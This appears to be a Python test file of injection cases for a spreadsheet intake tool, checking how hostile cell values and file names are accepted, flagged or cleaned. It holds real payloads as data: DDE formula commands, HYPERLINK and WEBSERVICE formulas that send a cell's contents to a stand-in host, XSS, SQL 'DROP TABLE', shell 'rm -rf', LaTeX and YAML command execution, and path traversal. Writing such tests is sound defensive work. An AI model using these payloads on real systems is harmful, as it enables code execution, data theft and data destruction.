"""Words that would like to be more than words, wherever they are shown."""

from typing import Any

from openpyxl import Workbook

from plan_monitor.intake import layout
from tests.support.cases.case import (
    ACCEPTED,
    ACTUAL,
    RESULT,
    VALUE,
    WORDS_CELL,
    Case,
    Family,
    Patch,
    cell_xml,
    edit,
    enter,
    good_with,
    write,
)

_FAMILY = Family("injection")
_LONG = f"<is><t>{'a' * 100_000}</t></is>"


def _literal(name: str, words: str, *checks: str) -> Case:
    """Words that stay as they are, and are at most remarked upon."""
    return _FAMILY.case(
        name, good_with(enter({RESULT: words})), ACCEPTED, *checks, value=VALUE, words=words
    )


def _formula(name: str, words: str) -> Case:
    return _literal(name, words, "text-like-formula")


def _sheet(title: str) -> Patch:
    return edit(lambda book: book.create_sheet(title).append(["x"]))


def _in_code(value: Any) -> Patch:
    def change(book: Workbook) -> None:
        sheet = book[layout.INDICATOR_SHEET]
        write(sheet["A8"], value)
        write(sheet["G8"], 5)

    return edit(change)


INJECTION: list[Case] = [
    _formula("command", "=cmd|' /C calc'!A0"),
    _formula("function", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _formula("plus", "+1+cmd|' /C calc'!A0"),
    _formula("minus", "-cmd|' /C calc'!A0"),
    _formula("link", '=HYPERLINK("http://a.vn?x="&A1,"Bấm vào đây")'),
    _formula("web service", '=WEBSERVICE("http://a.vn/"&A1)'),
    _formula("after a tab", "\t=1+1".strip()),
    _literal("sum of numbers", "-2+3"),
    _literal("list with dashes", "- Đã họp\n- Đã ban hành"),
    _literal("script", "<script>alert(1)</script>"),
    _literal("image", '<img src=x onerror="alert(1)">'),
    _literal("end of a page", "</td></tr></table></body>"),
    _literal("entities", "&lt;b&gt; &amp; &#x41; &nbsp;"),
    _literal("template", "{{ 7*7 }} {% for x in y %}"),
    _literal("template of Python", "{0.__class__} %s %(x)s ${x}"),
    _literal("Markdown link", "[Xem](javascript:alert(1))"),
    _literal("Markdown image", "![x](http://a.vn/p.png) <http://a.vn>"),
    _literal("Markdown table", "a | b\n--- | ---\n# 1 * _2_ `3`"),
    _literal("LaTeX", r"\input{/etc/passwd} $\sum$ \write18{ls}"),
    _literal("CSV", 'a","b\n"c";=1+1'),
    _literal("SQL", "'; DROP TABLE observations; --"),
    _literal("shell", "$(touch /tmp/x) `touch /tmp/x` ; rm -rf ."),
    _literal("YAML", "!!python/object/apply:os.system ['ls']\n---\n- a: *b"),
    _literal("head of a mail", "Xong\nBcc: a@b.vn\n\nNội dung"),
    _literal("log line", "Xong\n2025-05-31 ERROR giả"),
    _literal("path", "../../../../etc/passwd"),
    _FAMILY.told(
        "terminal codes",
        enter({RESULT: "_x001B_]0;x_x0007_Xong"}),
        "text-invisible",
        words="]0;xXong",
    ),
    _FAMILY.told("long text", enter({RESULT: "dài " * 2_000}), "text-too-long"),
    _FAMILY.told("as long as Excel allows", enter({RESULT: "a" * 32_767}), "text-too-long"),
    _FAMILY.out("100,000 letters", cell_xml(WORDS_CELL, _LONG, 't="inlineStr"'), "sheet-too-large"),
    _FAMILY.lost(
        "formula for a number", enter({ACTUAL: "=cmd|'/C calc'!A0"}), "value-not-a-number"
    ),
    _FAMILY.lost("markup for a number", enter({ACTUAL: "<b>71,5</b>"}), "value-not-a-number"),
    _FAMILY.told("formula for a code", _in_code("=27"), "code-unknown"),
    _FAMILY.told("markup for a code", _in_code("<b>27</b>"), "code-unknown"),
    _FAMILY.told("sheet named like a formula", _sheet("=1+1"), "sheet-extra"),
    _FAMILY.told("sheet named like markup", _sheet("<b>x<b>"), "sheet-extra"),
    _FAMILY.clean("name like a path", file_name="injection - ..%2F..%2Fetc%2Fpasswd.xlsx"),
    _FAMILY.clean("name like a formula", file_name="=cmd|' injection.xlsx"),
    _FAMILY.clean("name like markup", file_name="injection - <b>&{{ 7*7 }}$(ls).xlsx"),
    _FAMILY.clean("name like an option", file_name="--agency=STC injection.xlsx"),
    _FAMILY.clean("name over two lines", file_name="injection -\n\x1b[31m.xlsx"),
]
